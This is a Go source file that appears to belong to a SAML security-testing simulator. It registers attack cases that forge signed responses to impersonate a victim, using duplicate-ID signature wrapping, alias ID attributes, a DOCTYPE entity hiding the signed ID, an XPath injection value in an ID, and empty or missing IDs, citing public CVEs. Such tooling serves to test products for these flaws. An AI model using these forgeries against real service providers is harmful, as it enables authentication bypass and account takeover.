package forge

import (
	"strings"

	"github.com/beevik/etree"

	"rollcall.example/simulator/forge/dsig"
	"rollcall.example/simulator/idp"
)

// Attacks on a product that looks up by ID what was signed, and finds another element.
func init() {
	register("ref",
		Attack{
			Row: "REF-19", Name: "id-twice-first", Rule: "id-twice", Modes: OnAssertion, wraps: true,
			Summary:  "has an unsigned assertion with the same ID before the signed one",
			Sources:  []string{"CVE-2026-9487"},
			document: func(d Donor, draft *idp.Draft) error { return sameID(d, draft, before) },
		},
		Attack{
			Row: "REF-20", Name: "id-twice-last", Rule: "id-twice", Modes: OnAssertion, wraps: true,
			Summary:  "has an unsigned assertion with the same ID behind the signed one",
			Sources:  []string{"CVE-2026-9487"},
			document: func(d Donor, draft *idp.Draft) error { return sameID(d, draft, behind) },
		},
		Attack{
			Row: "REF-22", Name: "id-by-entity", Modes: OnResponse, Summary: "hides the ID of what was signed behind an entity",
			Sources: []string{"CVE-2025-23369"},
			document: func(d Donor, draft *idp.Draft) error {
				hidden, holder := unsigned(draft.Response), object()
				hidden.CreateAttr("ID", "rollcall-entity")
				holder.AddChild(hidden)
				signature, err := find(draft.Response, "Signature")
				if err != nil {
					return err
				}
				signature.AddChild(holder)
				newID(draft.Response)
				return impersonate(d, draft.Assertion)
			},
			bytes: func(_ Donor, xml []byte) ([]byte, error) {
				_, after, _ := strings.Cut(string(xml), `<ds:Reference URI="#`)
				id, _, _ := strings.Cut(after, `"`)
				xml, err := swap(xml, `ID="rollcall-entity"`, `ID="&idViaEntity;"`)
				if err != nil {
					return nil, err
				}
				return swap(xml, "<saml2p:Response", `<!DOCTYPE Response [<!ENTITY idViaEntity "`+id+`">]><saml2p:Response`)
			},
		},
		Attack{
			Row: "REF-23", Name: "id-with-xpath", Modes: Alone, Summary: "has an ID in which there is XPath",
			draft: renamed("_", "' or '1'='1"),
		},
		Attack{
			Row: "REF-26", Name: "id-missing", Modes: Alone, Summary: "has no ID in what is signed, and a signature that refers to none",
			sign: building(func(_ Donor, _ *idp.Draft, r *dsig.Reference) error {
				r.Over.RemoveAttr("ID")
				r.URI = dsig.To("#")
				return nil
			}),
		},
		Attack{
			Row: "REF-27", Name: "id-with-digit", Modes: Alone, Expect: Warn, Summary: "has an ID that begins with a digit",
			draft: renamed("1", ""),
		},
		Attack{
			Row: "REF-28", Name: "id-empty", Modes: Alone, Summary: "has an empty ID, and a signature that refers to it",
			sign: building(func(_ Donor, _ *idp.Draft, r *dsig.Reference) error {
				r.Over.CreateAttr("ID", "")
				r.URI = dsig.To("#")
				return nil
			}),
		},
		Attack{
			Row: "REF-28", Name: "id-empty-whole", Rule: "id-empty", Modes: OnResponse, Summary: "has an empty ID, and a signature that refers to the whole document",
			sign: building(func(_ Donor, _ *idp.Draft, r *dsig.Reference) error {
				r.Over.CreateAttr("ID", "")
				r.URI = dsig.To("")
				return nil
			}),
		},
	)
	for _, alias := range []struct{ name, attribute string }{
		{"xml-id", "xml:id"}, {"capital-id", "Id"}, {"small-id", "id"}, {"assertion-id", "AssertionID"},
	} {
		register("ref", Attack{
			Row: "REF-21", Name: "id-alias-" + alias.name, Rule: "id-alias", Modes: OnAssertion, Expect: Harmless, wraps: true,
			Summary: "has an unsigned assertion before the signed one, with its ID as " + alias.attribute,
			Sources: []string{"CVE-2021-21238"},
			document: func(d Donor, draft *idp.Draft) error {
				other, err := evil(d, draft.Assertion)
				if err == nil {
					other.CreateAttr(alias.attribute, draft.Assertion.SelectAttrValue("ID", ""))
					before(draft.Assertion, other)
				}
				return err
			},
		})
	}
}

// sameID puts an unsigned assertion about the victim next to the donor's, under its ID.
func sameID(d Donor, draft *idp.Draft, where func(sibling, el *etree.Element)) error {
	other := unsigned(draft.Assertion)
	if err := impersonate(d, other); err != nil {
		return err
	}
	where(draft.Assertion, other)
	return nil
}

// renamed gives what will be signed another ID.
func renamed(before, behind string) func(Donor, *idp.Draft) error {
	return onSigned(func(_ Donor, el *etree.Element) error {
		el.CreateAttr("ID", before+el.SelectAttrValue("ID", "")+behind)
		return nil
	})
}
